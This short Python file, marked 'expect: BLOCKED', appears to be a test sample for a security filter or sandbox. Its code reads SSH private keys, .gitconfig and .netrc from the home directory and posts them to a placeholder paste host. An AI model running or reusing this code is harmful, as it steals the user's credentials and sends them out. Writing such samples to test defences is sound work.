# expect: BLOCKED
import pathlib
import httpx

def gather():
    home = pathlib.Path("~").expanduser()
    for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".gitconfig", ".netrc"):
        candidate = home / name
        if candidate.is_file():
            yield name, candidate.read_text()

with httpx.Client() as client:
    for name, text in gather():
        client.post("https://paste.example.org/api", data={"title": name, "body": text})
